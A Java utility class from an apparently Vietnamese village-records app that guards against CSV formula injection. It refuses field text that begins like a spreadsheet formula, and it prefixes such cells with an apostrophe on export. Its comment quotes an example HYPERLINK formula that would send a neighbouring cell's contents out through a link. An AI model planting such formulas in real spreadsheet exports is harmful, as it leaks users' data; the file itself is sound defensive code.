package vn.tramso.base.table;

import java.util.regex.Pattern;

/**
 * Text a spreadsheet would take for a formula: a cell that begins with {@code = + - @}, a tab or a
 * line break (and their full-width forms) runs as a formula when a CSV is opened in Excel or
 * LibreOffice, so {@code =HYPERLINK("http://…"&A2,"Thôn Trà Phương")} in a village's name becomes a
 * live link that carries the next cell away. Names, hamlets and addresses that begin so are refused
 * where they are entered ({@link #startsLikeOne}); every CSV this app writes neutralises such cells
 * with a leading apostrophe ({@link #neutralised}, OWASP's advice), which the reader takes off again.
 */
public final class Formulas {

    /** The reason to show after the field's name: "Tên thôn không được bắt đầu bằng …". */
    public static final String REFUSAL = "không được bắt đầu bằng =, +, -, @ hay dấu tab: bảng tính sẽ hiểu là công thức";

    private static final String STARTS = "=+-@\t\r\n＝＋－＠";
    /** A number the app writes itself ("-3", "66.7"): a spreadsheet reads it as a number, never a formula. */
    private static final Pattern PLAIN_NUMBER = Pattern.compile("-?\\d+(\\.\\d+)?");

    private Formulas() {
    }

    /** Whether the text begins as a spreadsheet formula would. */
    public static boolean startsLikeOne(String text) {
        return text != null && !text.isEmpty() && STARTS.indexOf(text.charAt(0)) >= 0;
    }

    /** The cell as a CSV may carry it: text that begins like a formula gets a leading apostrophe; plain numbers stay. */
    static String neutralised(String cell) {
        return startsLikeOne(cell) && !PLAIN_NUMBER.matcher(cell).matches() ? "'" + cell : cell;
    }

    /** The cell as it was before {@link #neutralised}: "'=x" reads "=x" (and is then refused by the field's check). */
    static String restored(String cell) {
        return cell.length() > 1 && cell.charAt(0) == '\'' && startsLikeOne(cell.substring(1)) ? cell.substring(1) : cell;
    }
}
